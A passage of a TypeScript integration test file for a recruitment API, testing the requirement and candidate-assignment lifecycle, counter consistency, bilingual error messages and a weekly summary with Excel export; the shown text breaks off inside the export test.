import { clas, statusCounterLabelKey, summaryTotals, translate, weeklySummaryCounts } from '@rp/contract';
import { and, eq, sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { queryRows } from '../../db/client';
import { candidates, catalogs } from '../../db/schema/index';
import { buildTestApp, type TestApp } from '../../test/build-app';
import {
  type ApiRow,
  type Body,
  makeCandidate,
  makeCompany,
  makeFileRecord,
  makePosition,
  makeRequirement,
  makeSignedInUser,
  makeSite,
  post,
  seedIds,
  unique,
} from '../../test/factories';

let t: TestApp;
let rejectReason: number;

beforeAll(async () => {
  t = await buildTestApp();
  rejectReason = (await seedIds(t)).catalog(clas.rejectReasons);
});
afterAll(async () => t?.close());

type Req = ApiRow & { items: ApiRow[] };

const send = (
  method: 'POST' | 'PUT' | 'GET' | 'DELETE',
  url: string,
  payload?: Body,
  opts: { token?: string; lang?: 'es' | 'en' } = {},
) => t.request({ method, url, payload, token: opts.token ?? t.adminToken, lang: opts.lang });

const rc = (action: string, body: Body, opts?: { token?: string; lang?: 'es' | 'en' }) =>
  send('POST', `/api/requeriment-candidates/${action}/`, body, opts);
const reqAction = (action: string, body: Body, opts?: { token?: string; lang?: 'es' | 'en' }) =>
  send('POST', `/api/requeriments/${action}/`, body, opts);

const readReq = async (id: unknown) => (await send('GET', `/api/requeriments/${id}/`)).json() as Req;

async function assign(item: unknown, candidate?: number) {
  const id = candidate ?? Number((await makeCandidate(t)).id);
  const res = await rc('assign_candidate', {
    requeriment: item,
    candidate: id,
    interview_date: '2026-03-05',
    interview_time: '09:30',
  });
  expect(res.statusCode, res.body).toBe(201);
  return res.json() as ApiRow;
}

const close = (id: unknown, status: string, over: Body = {}) => {
  const extra: Body = {};
  if (status === 'Rejected') extra.reject_reason = rejectReason;
  if (status === 'Hired') extra.employee_code = unique('E');
  return rc('close_candidate', { id, status, ...extra, ...over });
};

async function closeOk(id: unknown, status: string, over: Body = {}) {
  const res = await close(id, status, over);
  expect(res.statusCode, res.body).toBe(200);
  return res.json() as ApiRow;
}

/** The counters of a requirement recomputed from its assignment rows, independently of the service. */
async function expectCountersMatchRows(requirementId: number) {
  const rows = await queryRows<{ id: number; status: string }>(
    t.database.db,
    sql`select i.id, rc.status from requeriment_items i
          left join requeriment_candidates rc on rc.requeriment = i.id
         where i.requeriment = ${requirementId}`,
  );
  const req = await readReq(requirementId);
  const totals = { candidates: 0, accepted: 0, hired: 0, rejected: 0 };
  for (const item of req.items) {
    const mine = rows.filter((r) => Number(r.id) === item.id && r.status != null).map((r) => r.status);
    const n = (...statuses: string[]) => mine.filter((s) => statuses.includes(s)).length;
    expect(item).toMatchObject({
      candidates: mine.length,
      accepted: n('Accepted', 'Hired'),
      hired: n('Hired'),
      rejected: n('Rejected'),
      not_attend: n('NotAttend'),
    });
    expect(Number(item.accepted)).toBeLessThanOrEqual(Number(item.quantity));
    totals.candidates += mine.length;
    totals.accepted += n('Accepted', 'Hired');
    totals.hired += n('Hired');
    totals.rejected += n('Rejected');
  }
  const total = req.items.reduce((sum, item) => sum + Number(item.quantity), 0);
  expect(req).toMatchObject({
    total_positions: total,
    accepted_positions: totals.accepted,
    hired_positions: totals.hired,
    rejected_positions: totals.rejected,
    candidates: totals.candidates,
    // a closed or cancelled requirement has no open positions (docs/domain.md#counters-and-formulas)
    open_positions: ['Closed', 'Cancel'].includes(String(req.status)) ? 0 : total - totals.accepted,
  });
}

describe('requirement lifecycle', () => {
  it('creates New with its ISO week, code and totals; approves once', async () => {
    const req = (await makeRequirement(t, { requeriment_date: '2026-01-01', quantity: 3 })) as Req;
    expect(req).toMatchObject({
      status: 'New',
      week: 1,
      year: 2026,
      total_positions: 3,
      open_positions: 3,
      company_name: expect.any(String),
    });
    expect(req.code).toMatch(/^REQ-\d{6}$/);
    const approved = await reqAction('approve_requeriment', { id: req.id });
    expect(approved.statusCode, approved.body).toBe(200);
    expect(approved.json()).toMatchObject({ status: 'Approved' });
    const again = await reqAction('approve_requeriment', { id: req.id }, { lang: 'en' });
    expect(again.statusCode).toBe(409);
    expect(again.json().detail).toBe('Only a new requirement can be approved.');
  });

  it('refuses a requirement without positions or with an item missing its shift (nested field errors)', async () => {
    const company = (await makeCompany(t)).id;
    const ids = await seedIds(t);
    const base = { company, requeriment_date: '2026-03-02', category: ids.category.DIRECT };
    const none = await send('POST', '/api/requeriments/', { ...base, items: [] }, { lang: 'en' });
    expect(none.statusCode).toBe(400);
    expect(none.json().items).toEqual(['The requirement must have at least one position']);
    const position = (await makePosition(t)).id;
    const missing = await send('POST', '/api/requeriments/', {
      ...base,
      items: [{ position, gender: 'any', category: ids.category.DIRECT, quantity: 1 }],
    });
    expect(missing.statusCode).toBe(400);
    expect(Object.keys(missing.json())).toContain('items.0.shift_type');
  });

  it('goes Recruiting on the first assignment and Closed by itself when every position is hired', async () => {
    const req = (await makeRequirement(t, { quantity: 2 })) as Req;
    const item = req.items[0]?.id;
    const a = await assign(item);
    expect((await readReq(req.id)).status).toBe('Recruiting');
    const b = await assign(item);
    const waiting = await assign(item);
    await closeOk(a.id, 'Accepted');
    await closeOk(b.id, 'Accepted');
    await closeOk(a.id, 'Hired');
    expect((await readReq(req.id)).status).toBe('Recruiting');
    await closeOk(b.id, 'Hired');
    const closed = await readReq(req.id);
    expect(closed).toMatchObject({
      status: 'Closed',
      hired_positions: 2,
      open_positions: 0,
      rejected_positions: 1,
    });
    expect(closed.closed_at).toEqual(expect.any(String));
    // the candidate still in progress ends as Rejected "Positions covered" and is free for another requirement
    const [covered] = await t.database.db
      .select({ id: catalogs.id })
      .from(catalogs)
      .where(and(eq(catalogs.clas_id, clas.rejectReasons), eq(catalogs.code, 'REQ_COVERED')));
    const ended = (await send('GET', `/api/requeriment-candidates/${waiting.id}/`)).json() as ApiRow;
    expect(ended).toMatchObject({ status: 'Rejected', reject_reason: covered?.id });
    await assign(((await makeRequirement(t)) as Req).items[0]?.id, Number(waiting.candidate));
    await expectCountersMatchRows(Number(req.id));
    // closed: nothing more is assigned, and it cannot be cancelled
    const more = await rc('assign_candidate', {
      requeriment: item,
      candidate: (await makeCandidate(t)).id,
      interview_date: '2026-03-05',
      interview_time: '10:00',
    });
    expect(more.statusCode).toBe(409);
    const cancel = await reqAction('cancel_requeriment', { id: req.id, cancel_reason: 'x' });
    expect(cancel.statusCode).toBe(409);
    // the timeline has the assignments, the status changes and the automatic close
    const logs = (await send('GET', `/api/vacancy-logs/?requeriment=${req.id}`)).json() as ApiRow[];
    const statuses = logs.map((l) => l.status);
    expect(logs[0]?.user_name).toBe('Admin Recruitment');
    expect(statuses).toEqual(
      expect.arrayContaining(['Assigned', 'Recruiting', 'Accepted', 'Hired', 'Closed']),
    );
  });

  it('keeps the timeline as events with the days spent in the previous stage (docs/decisions.md#direct-process-issue-6)', async () => {
    const req = (await makeRequirement(t, { quantity: 2 })) as Req;
    const position = (await send('GET', `/api/positions/${req.items[0]?.position}/`)).json() as ApiRow;
    const backdate = (table: 'requeriments' | 'requeriment_candidates', id: unknown, days: number) =>
      t.database.db.execute(
        sql`update ${sql.identifier(table)} set created_at = now() - make_interval(days => ${days}) where id = ${Number(id)}`,
      );
    await backdate('requeriments', req.id, 3);
    expect((await reqAction('approve_requeriment', { id: req.id }, { lang: 'en' })).statusCode).toBe(200);
    const candidate = await makeCandidate(t);
    const a = await assign(req.items[0]?.id, Number(candidate.id));
    await backdate('requeriment_candidates', a.id, 2);
    await closeOk(a.id, 'Accepted');
    const logs = (
      await send('GET', `/api/vacancy-logs/?requeriment=${req.id}&ordering=created_at`)
    ).json() as ApiRow[];
    const byStatus = (status: string) => logs.find((l) => l.status === status);
    // New → Approved after three days in New; the sentence in the actor's language, the event as data
    expect(byStatus('Approved')).toMatchObject({
      days: 3,
      event: { kind: 'requeriment_status', from: 'New', to: 'Approved' },
      comment: 'Requirement New → Approved',
    });
    expect(byStatus('Assigned')).toMatchObject({
      event: {
        kind: 'assigned',
        candidate: expect.stringContaining(String(candidate.last_name)),
        position: { es: position.name_es, en: position.name_en ?? position.name_es },
        date: '2026-03-05',
        time: '09:30',
      },
      comment: expect.stringMatching(/^Se asignó a .+ \(entrevista el 05\/03\/2026 a las 09:30\)$/),
    });
    // Pending → Accepted after two days in Pending (the candidate's stage, not the requirement's)
    expect(byStatus('Accepted')).toMatchObject({
      days: 2,
      event: { kind: 'follow_up', from: 'Pending', to: 'Accepted' },
    });
    // the requirement went Recruiting the day it was approved: no days in Approved
    expect(byStatus('Recruiting')).toMatchObject({
      days: 0,
      event: { kind: 'requeriment_status', from: 'Approved', to: 'Recruiting' },
    });
  });

  it('close_requeriment needs no open assignment; then it is closed', async () => {
    const req = (await makeRequirement(t, { quantity: 2 })) as Req;
    const a = await assign(req.items[0]?.id);
    const refused = await reqAction('close_requeriment', { id: req.id }, { lang: 'en' });
    expect(refused.statusCode).toBe(409);
    expect(refused.json().detail).toMatch(/in progress or accepted/);
    await closeOk(a.id, 'Rejected');
    const closed = await reqAction('close_requeriment', { id: req.id });
    expect(closed.statusCode, closed.body).toBe(200);
    // nothing is open once closed (the unfilled ones stay readable as total_positions − accepted_positions)
    expect(closed.json()).toMatchObject({
      status: 'Closed',
      open_positions: 0,
      total_positions: 2,
      accepted_positions: 0,
    });
  });

  it('cancel needs a reason, records it and rejects the open assignments with "Requirement canceled"', async () => {
    const req = (await makeRequirement(t, { quantity: 3 })) as Req;
    const item = req.items[0]?.id;
    const pending = await assign(item);
    const accepted = await assign(item);
    await closeOk(accepted.id, 'Accepted');
    const hired = await assign(item);
    await closeOk(hired.id, 'Accepted');
    await closeOk(hired.id, 'Hired');

    const noReason = await reqAction(
      'cancel_requeriment',
      { id: req.id, cancel_reason: '  ' },
      { lang: 'en' },
    );
    expect(noReason.statusCode).toBe(400);
    expect(noReason.json().cancel_reason).toEqual(['This field is required']);

    const res = await reqAction('cancel_requeriment', {
      id: req.id,
      cancel_reason: 'Cliente pospuso arranque',
    });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toMatchObject({
      status: 'Cancel',
      cancel_reason: 'Cliente pospuso arranque',
      cancel_user: expect.any(Number),
      cancel_at: expect.any(String),
      hired_positions: 1,
      rejected_positions: 2,
      accepted_positions: 1,
      // nothing is open any more, though 2 of the 3 positions were never filled
      open_positions: 0,
    });
    const [canceledReason] = await t.database.db
      .select({ id: catalogs.id })
      .from(catalogs)
      .where(and(eq(catalogs.clas_id, clas.rejectReasons), eq(catalogs.code, 'REQ_CANCELED')));
    for (const id of [pending.id, accepted.id]) {
      const row = (await send('GET', `/api/requeriment-candidates/${id}/`)).json() as ApiRow;
      expect(row).toMatchObject({ status: 'Rejected', reject_reason: canceledReason?.id });
    }
    const hiredRow = (await send('GET', `/api/requeriment-candidates/${hired.id}/`)).json() as ApiRow;
    expect(hiredRow.status).toBe('Hired');
    const twice = await reqAction('cancel_requeriment', { id: req.id, cancel_reason: 'otra vez' });
    expect(twice.statusCode).toBe(409);
    await expectCountersMatchRows(Number(req.id));
  });

  it('a candidate says it is in process while an assignment is open, and no longer once it ends', async () => {
    const req = (await makeRequirement(t, { quantity: 2 })) as Req;
    const candidate = Number((await makeCandidate(t)).id);
    const inProcess = async () =>
      ((await send('GET', `/api/candidates/${candidate}/`)).json() as ApiRow).is_in_process;
    expect(await inProcess()).toBe(false);
    const row = await assign(req.items[0]?.id, candidate);
    expect(await inProcess()).toBe(true);
    const listed = await send('GET', `/api/candidates/?page=1&is_in_process=true&id=${candidate}`);
    expect((listed.json() as { data: ApiRow[] }).data.map((c) => c.id)).toEqual([candidate]);
    await closeOk(row.id, 'Rejected');
    expect(await inProcess()).toBe(false);
  });

  it('delete is refused with hires (409) and is a soft delete otherwise', async () => {
    const req = (await makeRequirement(t, { quantity: 2 })) as Req;
    const a = await assign(req.items[0]?.id);
    await closeOk(a.id, 'Accepted');
    await closeOk(a.id, 'Hired');
    const refused = await send('DELETE', `/api/requeriments/${req.id}/`, undefined, { lang: 'en' });
    expect(refused.statusCode).toBe(409);
    expect(refused.json().detail).toBe('A requirement with hired positions cannot be deleted.');

    const other = (await makeRequirement(t)) as Req;
    const waiting = await assign(other.items[0]?.id);
    const deleted = await send('DELETE', `/api/requeriments/${other.id}/`);
    expect(deleted.statusCode).toBe(204);
    expect((await send('GET', `/api/requeriments/${other.id}/`)).statusCode).toBe(404);
    // its assignments leave the lists, and the candidate is free again
    expect((await send('GET', `/api/requeriment-candidates/${waiting.id}/`)).statusCode).toBe(404);
    await assign(((await makeRequirement(t)) as Req).items[0]?.id, Number(waiting.candidate));
  });

  it('derives days_open and is_past_due, both filterable', async () => {
    const company = (await makeCompany(t)).id;
    const old = (await makeRequirement(t, { company, requeriment_date: '2026-01-05' })) as Req;
    const today = new Date().toISOString().slice(0, 10);
    const fresh = (await makeRequirement(t, { company, requeriment_date: today })) as Req;
    const oldRead = await readReq(old.id);
    expect(oldRead.is_past_due).toBe(true);
    expect(Number(oldRead.days_open)).toBeGreaterThan(7);
    expect((await readReq(fresh.id)).is_past_due).toBe(false);
    const pastDue = (
      await send('GET', `/api/requeriments/?company=${company}&is_past_due=true`)
    ).json() as ApiRow[];
    expect(pastDue.map((r) => r.id)).toEqual([old.id]);
    const longOpen = (
      await send('GET', `/api/requeriments/?company=${company}&days_open__gte=8`)
    ).json() as ApiRow[];
    expect(longOpen.map((r) => r.id)).toEqual([old.id]);
  });
});

describe('positions of a requirement (PUT items)', () => {
  it('changes, adds and removes items; refuses removing assigned ones or going below accepted', async () => {
    const ids = await seedIds(t);
    const req = (await makeRequirement(t, { quantity: 2 })) as Req;
    const first = req.items[0] as ApiRow;
    const a = await assign(first.id);
    await closeOk(a.id, 'Accepted');
    const position = (await makePosition(t)).id;
    const added = {
      position,
      gender: 'female',
      shift_type: ids.catalog(clas.shiftType),
      category: ids.category.INDIRECT,
      quantity: 4,
    };
    const keepFirst = {
      id: first.id,
      position: first.position,
      gender: first.gender,
      shift_type: first.shift_type,
      category: first.category,
    };
    const put = await send('PUT', `/api/requeriments/${req.id}/`, {
      items: [{ ...keepFirst, quantity: 3 }, added],
    });
    expect(put.statusCode, put.body).toBe(200);
    const after = put.json() as Req;
    expect(after.items).toHaveLength(2);
    expect(after).toMatchObject({ total_positions: 7, accepted_positions: 1, open_positions: 6 });

    // quantity 1 equals the accepted count: allowed
    const equal = await send('PUT', `/api/requeriments/${req.id}/`, {
      items: [{ ...keepFirst, quantity: 1 }, added],
    });
    expect(equal.statusCode, equal.body).toBe(200);
    const tooLow = await send('PUT', `/api/requeriment-items/${first.id}/`, { quantity: 0 });
    expect(tooLow.statusCode).toBe(400);

    const removeAssigned = await send(
      'PUT',
      `/api/requeriments/${req.id}/`,
      { items: [added] },
      { lang: 'en' },
    );
    expect(removeAssigned.statusCode).toBe(409);
    expect(removeAssigned.json().detail).toBe(
      'Positions that already have assigned candidates cannot be removed.',
    );

    const second = (await readReq(req.id)).items[1] as ApiRow;
    const removeFree = await send('PUT', `/api/requeriments/${req.id}/`, {
      items: [{ ...keepFirst, quantity: 2 }],
    });
    expect(removeFree.statusCode, removeFree.body).toBe(200);
    expect((removeFree.json() as Req).items.map((i) => i.id)).toEqual([first.id]);
    expect((await send('GET', `/api/requeriment-items/${second.id}/`)).statusCode).toBe(404);
    const foreign = await send('PUT', `/api/requeriments/${req.id}/`, {
      items: [{ ...keepFirst, id: 99999999, quantity: 2 }],
    });
    expect(foreign.statusCode).toBe(400);
    expect(Object.keys(foreign.json())).toContain('items.0.id');
    await expectCountersMatchRows(Number(req.id));
  });

  it('quantity below the accepted count answers 409', async () => {
    const req = (await makeRequirement(t, { quantity: 2 })) as Req;
    const item = req.items[0] as ApiRow;
    for (const candidate of [await assign(item.id), await assign(item.id)])
      await closeOk(candidate.id, 'Accepted');
    const res = await send('PUT', `/api/requeriment-items/${item.id}/`, { quantity: 1 }, { lang: 'en' });
    expect(res.statusCode).toBe(409);
    expect(res.json().detail).toBe('The quantity cannot be lower than the accepted candidates (2).');
  });
});

describe('candidate follow-up', () => {
  it('allows the transitions of docs/domain.md and refuses the others with 409', async () => {
    const req = (await makeRequirement(t, { quantity: 5 })) as Req;
    const item = req.items[0]?.id;
    const a = await assign(item);
    const hireFromPending = await close(a.id, 'Hired');
    expect(hireFromPending.statusCode).toBe(409);
    expect(hireFromPending.json().detail).toBe('Un candidato no puede pasar de En proceso a Contratado.');

    const rejected = await closeOk(a.id, 'Rejected', { follow_up: 'No pasó examen' });
    expect(rejected).toMatchObject({
      status: 'Rejected',
      reject_reason: rejectReason,
      follow_up: 'No pasó examen',
    });
    for (const status of ['Accepted', 'Rejected', 'Hired', 'NotAttend']) {
      const res = await close(a.id, status, {});
      expect(res.statusCode, status).toBe(409);
    }

    const b = await assign(item);
    const noShow = await closeOk(b.id, 'NotAttend');
    expect(noShow).toMatchObject({ status: 'NotAttend', type_not_attend: 'interview' });

    const c = await assign(item);
    await closeOk(c.id, 'Accepted');
    const fromPendingOnly = await rc('not_attend_from_accepted', { id: b.id });
    expect(fromPendingOnly.statusCode).toBe(409);
    const hiringNoShow = await rc('not_attend_from_accepted', { id: c.id });
    expect(hiringNoShow.statusCode, hiringNoShow.body).toBe(200);
    expect(hiringNoShow.json()).toMatchObject({ status: 'NotAttend', type_not_attend: 'hiring' });

    const d = await assign(item);
    await closeOk(d.id, 'Accepted');
    const rejectedAfterAccept = await closeOk(d.id, 'Rejected');
    expect(rejectedAfterAccept.status).toBe('Rejected');
    await expectCountersMatchRows(Number(req.id));
  });

  it('requires the reject reason (catalog 6) and the employee number, in both languages', async () => {
    const req = (await makeRequirement(t)) as Req;
    const a = await assign(req.items[0]?.id);
    const noReason = await rc('close_candidate', { id: a.id, status: 'Rejected' }, { lang: 'en' });
    expect(noReason.statusCode).toBe(400);
    expect(noReason.json().reject_reason).toEqual(['Select a rejection reason']);
    const wrongCatalog = await rc('close_candidate', {
      id: a.id,
      status: 'Rejected',
      reject_reason: (await seedIds(t)).catalog(clas.shiftType),
    });
    expect(wrongCatalog.statusCode).toBe(400);
    await closeOk(a.id, 'Accepted');
    const noCode = await rc('close_candidate', { id: a.id, status: 'Hired' });
    expect(noCode.statusCode).toBe(400);
    expect(noCode.json().employee_code).toEqual(['Por favor ingrese el número de empleado']);
    const noCodeEn = await rc(
      'close_candidate',
      { id: a.id, status: 'Hired', employee_code: ' ' },
      { lang: 'en' },
    );
    expect(noCodeEn.json().employee_code).toEqual(['Please enter the employee number']);
  });

  it('hiring saves the employee number on the candidate; a number already used answers 400 naming its owner', async () => {
    const owner = await makeCandidate(t, { employee_code: 'EMP-77001' });
    const req = (await makeRequirement(t, { quantity: 2 })) as Req;
    const candidate = Number((await makeCandidate(t)).id);
    const a = await assign(req.items[0]?.id, candidate);
    await closeOk(a.id, 'Accepted');
    const clash = await rc('close_candidate', { id: a.id, status: 'Hired', employee_code: 'emp-77001' });
    expect(clash.statusCode).toBe(400);
    expect(clash.json().employee_code[0]).toContain(`#${owner.id}`);
    const hired = await closeOk(a.id, 'Hired', { employee_code: 'EMP-77002' });
    expect(hired).toMatchObject({
      status: 'Hired',
      hired_user: expect.any(Number),
      hired_at: expect.any(String),
    });
    const [row] = await t.database.db
      .select({ employee_code: candidates.employee_code })
      .from(candidates)
      .where(eq(candidates.id, candidate));
    expect(row?.employee_code).toBe('EMP-77002');
  });

  it('never accepts beyond the quantity of an item', async () => {
    const req = (await makeRequirement(t, { quantity: 1 })) as Req;
    const item = req.items[0]?.id;
    const a = await assign(item);
    const b = await assign(item);
    await closeOk(a.id, 'Accepted');
    const res = await close(b.id, 'Accepted', {});
    expect(res.statusCode).toBe(409);
    const inEnglish = await rc('close_candidate', { id: b.id, status: 'Accepted' }, { lang: 'en' });
    expect(inEnglish.json().detail).toBe('All the positions of this item are already covered (1).');
  });

  it('refuses blacklisted, deleted and already-in-process candidates', async () => {
    const req = (await makeRequirement(t, { quantity: 3 })) as Req;
    const item = req.items[0]?.id;
    const body = (candidate: unknown) => ({
      requeriment: item,
      candidate,
      interview_date: '2026-03-05',
      interview_time: '11:00',
    });
    const listed = await makeCandidate(t);
    await post(t, '/api/black-list/', {
      candidate: listed.id,
      reason: (await seedIds(t)).catalog(clas.blackListReasons),
      note: 'Abandono',
    });
    const black = await rc('assign_candidate', body(listed.id));
    expect(black.statusCode).toBe(409);

    const gone = await makeCandidate(t);
    await send('DELETE', `/api/candidates/${gone.id}/?reason=duplicado`);
    expect((await rc('assign_candidate', body(gone.id))).statusCode).toBe(409);

    const busy = Number((await makeCandidate(t)).id);
    const other = (await makeRequirement(t)) as Req;
    await assign(other.items[0]?.id, busy);
    const twice = await rc('assign_candidate', body(busy), { lang: 'en' });
    expect(twice.statusCode).toBe(409);
    expect(twice.json().detail).toBe(`The candidate is already in process in requirement ${other.code}.`);

    const missing = await rc('assign_candidate', body(99999999));
    expect(missing.statusCode).toBe(400);
    expect(Object.keys(missing.json())).toEqual(['candidate']);
    const badItem = await rc('assign_candidate', { ...body(busy), requeriment: 99999999 });
    expect(badItem.statusCode).toBe(400);
    const badTime = await rc('assign_candidate', { ...body(busy), interview_time: '25:00' });
    expect(badTime.statusCode).toBe(400);
    expect(Object.keys(badTime.json())).toEqual(['interview_time']);
  });

  it('re-assigns a candidate from a final status to another position', async () => {
    const req = (await makeRequirement(t)) as Req;
    const target = (await makeRequirement(t)) as Req;
    const a = await assign(req.items[0]?.id);
    await closeOk(a.id, 'NotAttend');
    const res = await rc('assign_from_status', {
      id: a.id,
      requeriment: target.items[0]?.id,
      interview_date: '2026-03-09',
      interview_time: '08:00',
    });
    expect(res.statusCode, res.body).toBe(201);
    expect(res.json()).toMatchObject({
      candidate: a.candidate,
      status: 'Pending',
      requeriment_id: target.id,
      interview_date: '2026-03-09',
    });
    // the new assignment is open: re-assigning again is refused
    const again = await rc('assign_from_status', {
      id: a.id,
      requeriment: req.items[0]?.id,
      interview_date: '2026-03-09',
      interview_time: '08:00',
    });
    expect(again.statusCode).toBe(409);
  });

  it('bulk close updates all or nothing and says how many', async () => {
    const req = (await makeRequirement(t, { quantity: 3 })) as Req;
    const item = req.items[0]?.id;
    const rows = [await assign(item), await assign(item), await assign(item)];
    const ok = await rc('close_massive_candidate', {
      ids: rows.slice(0, 2).map((r) => r.id),
      status: 'Accepted',
    });
    expect(ok.statusCode, ok.body).toBe(200);
    expect(ok.json()).toEqual({ updated: 2 });
    // Accepted and Pending ones may both be rejected
    const mixed = await rc(
      'close_massive_candidate',
      { ids: rows.map((r) => r.id), status: 'Rejected', reject_reason: rejectReason },
      { lang: 'en' },
    );
    expect(mixed.statusCode, mixed.body).toBe(200);
    expect(mixed.json()).toEqual({ updated: 3 });
    const req2 = (await makeRequirement(t, { quantity: 3 })) as Req;
    const x = await assign(req2.items[0]?.id);
    const y = await assign(req2.items[0]?.id);
    await closeOk(y.id, 'NotAttend');
    const refused = await rc(
      'close_massive_candidate',
      { ids: [x.id, y.id], status: 'Accepted' },
      { lang: 'en' },
    );
    expect(refused.statusCode).toBe(409);
    expect(refused.json().detail).toMatch(/^Candidate .+: This candidate's process is already finished/);
    const xRow = (await send('GET', `/api/requeriment-candidates/${x.id}/`)).json() as ApiRow;
    expect(xRow.status).toBe('Pending');
    const hire = await rc('close_massive_candidate', { ids: [x.id], status: 'Hired', employee_code: 'E1' });
    expect(hire.statusCode).toBe(400);
    await expectCountersMatchRows(Number(req.id));
    await expectCountersMatchRows(Number(req2.id));
  });

  it('deletes only assignments in progress (action and DELETE)', async () => {
    const req = (await makeRequirement(t, { quantity: 2 })) as Req;
    const a = await assign(req.items[0]?.id);
    const b = await assign(req.items[0]?.id);
    await closeOk(b.id, 'Accepted');
    const refused = await rc('delete_candidate', { id: b.id }, { lang: 'en' });
    expect(refused.statusCode).toBe(409);
    expect(refused.json().detail).toBe('Only candidates in progress can be removed from a requirement.');
    expect((await send('DELETE', `/api/requeriment-candidates/${b.id}/`)).statusCode).toBe(409);
    expect((await rc('delete_candidate', { id: a.id })).statusCode).toBe(204);
    expect((await send('GET', `/api/requeriment-candidates/${a.id}/`)).statusCode).toBe(404);
    expect(await readReq(req.id)).toMatchObject({ candidates: 1, accepted_positions: 1 });
  });

  it('records the medical service with its user and date; unset is null', async () => {
    const req = (await makeRequirement(t)) as Req;
    const a = await assign(req.items[0]?.id);
    const res = await rc('update_medical_service', {
      id: a.id,
      require_medical: true,
      medical_status: 'conditioned',
      medical_notes: 'Revisión en un mes',
    });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toMatchObject({
      require_medical: true,
      medical_status: 'conditioned',
      medical_notes: 'Revisión en un mes',
      medical_user: expect.any(Number),
      medical_user_name: 'Admin Recruitment',
      medical_date: expect.any(String),
    });
    const unset = await rc('update_medical_service', { id: a.id, medical_status: null });
    expect(unset.json()).toMatchObject({ medical_status: null, require_medical: true });
    const bad = await rc('update_medical_service', { id: a.id, medical_status: 'fine' });
    expect(bad.statusCode).toBe(400);
  });

  it('keeps every counter equal to its rows after random sequences of actions', async () => {
    let seed = 20261122;
    const random = (n: number) => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return seed % n;
    };
    const ids = await seedIds(t);
    const position = (await makePosition(t)).id;
    const itemBody = (quantity: number) => ({
      position,
      gender: 'any',
      shift_type: ids.catalog(clas.shiftType),
      category: ids.category.DIRECT,
      quantity,
    });
    const req = (await makeRequirement(t, { items: [itemBody(3), itemBody(2)] })) as Req;
    const assignments: number[] = [];
    const statuses = ['Accepted', 'Rejected', 'Hired', 'NotAttend'];
    for (let step = 0; step < 40; step += 1) {
      const current = await readReq(req.id);
      if (current.status === 'Closed') break;
      const action = random(6);
      if (action <= 1 || assignments.length === 0) {
        const item = current.items[random(current.items.length)]?.id;
        const res = await rc('assign_candidate', {
          requeriment: item,
          candidate: (await makeCandidate(t)).id,
          interview_date: '2026-03-05',
          interview_time: '09:00',
        });
        expect([201, 409]).toContain(res.statusCode);
        if (res.statusCode === 201) assignments.push(Number(res.json().id));
      } else if (action === 5) {
        const res = await rc('delete_candidate', { id: assignments[random(assignments.length)] });
        expect([204, 404, 409]).toContain(res.statusCode);
      } else {
        const res = await close(
          assignments[random(assignments.length)],
          statuses[random(statuses.length)] as string,
        );
        expect([200, 404, 409]).toContain(res.statusCode);
      }
      await expectCountersMatchRows(Number(req.id));
    }
  });
});

describe('weekly summary, counts, filters and pending check', () => {
  /** Hand-computed fixture: week 10 of 2026 for one company, two requirements and a cancelled one. */
  async function summaryFixture() {
    const company = await makeCompany(t, { name_es: unique('Resumen '), name_en: 'Summary Inc' });
    const site = await makeSite(t, { company: company.id });
    const a = (await makeRequirement(t, {
      company: company.id,
      site: site.id,
      requeriment_date: '2026-03-02',
      quantity: 4,
    })) as Req;
    const b = (await makeRequirement(t, {
      company: company.id,
      requeriment_date: '2026-03-04',
      quantity: 2,
    })) as Req;
    const c = (await makeRequirement(t, {
      company: company.id,
      requeriment_date: '2026-03-05',
      quantity: 3,
    })) as Req;
    // A: 2 hired, 1 accepted, 1 rejected, 1 no-show
    const itemA = a.items[0]?.id;
    for (const id of [(await assign(itemA)).id, (await assign(itemA)).id]) {
      await closeOk(id, 'Accepted');
      await closeOk(id, 'Hired');
    }
    await closeOk((await assign(itemA)).id, 'Accepted');
    await closeOk((await assign(itemA)).id, 'Rejected');
    await closeOk((await assign(itemA)).id, 'NotAttend');
    // B: 1 hired
    const hiredB = await assign(b.items[0]?.id);
    await closeOk(hiredB.id, 'Accepted');
    await closeOk(hiredB.id, 'Hired');
    // C: cancelled with one open assignment (becomes rejected)
    await assign(c.items[0]?.id);
    await reqAction('cancel_requeriment', { id: c.id, cancel_reason: 'Cliente canceló' });
    // another week, same company
    await makeRequirement(t, { company: company.id, requeriment_date: '2026-03-10', quantity: 1 });
    return { company, site, a, b, c };
  }

  it('sums one row per company and week with the formulas of docs/domain.md, and exports them', async () => {
    const { company, site } = await summaryFixture();
    const res = await send('GET', `/api/requeriments/get_weekly_summary/?year=2026&company=${company.id}`);
    expect(res.statusCode, res.body).toBe(200);
    const rows = res.json() as ApiRow[];
    expect(rows).toEqual([
      {
        company: company.id,
        company_name: company.name_es,
        year: 2026,
        week: 10,
        // the cancelled requirement's 3 positions (and its rejected assignment) only in `canceled`
        total_positions: 6,
        accepted: 4,
        hired: 3,
        rejected: 1,
        not_attend: 1,
        open: 2,
        canceled: 3,
        fill_rate: 50,
      },
      {
        company: company.id,
        company_name: company.name_es,
        year: 2026,
        week: 11,
        total_positions: 1,
        accepted: 0,
        hired: 0,
        rejected: 0,
        not_attend: 0,
        open: 1,
        canceled: 0,
        fill_rate: 0,
      },
    ]);
    const english = await send(
      'GET',
      `/api/requeriments/get_weekly_summary/?year=2026&week=10&company=${company.id}`,
      undefined,
      { lang: 'en' },
    );
    expect(english.json()).toMatchObject([{ company_name: 'Summary Inc', week: 10 }]);
    const bySite = await send('GET', `/api/requeriments/get_weekly_summary/?year=2026&site=${site.id}`);
    expect(bySite.json()).toMatchObject([{ total_positions: 4, hired: 2, fill_rate: 50 }]);
    const bad = await send('GET', '/api/requeriments/get_weekly_summary/?year=abc');
    expect(bad.statusCode).toBe(400);

    const exported = await send(
      'GET',
      `/api/requeriments/export_summary/?year=2026&company=${company.id}`,
      undefined,
      { lang: 'en' },
    );
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-disposition']).toContain('weekly-summary-2026.xlsx');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(exported.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0];
    expect(sheet?.getRow(1).values).toEqual([
      undefined,
      'Company',
      'Year',
      'Week',
      'Requested',
      'Accepted',
      'Hired',
      'Rejected',
      'Did not attend',
      'Open',
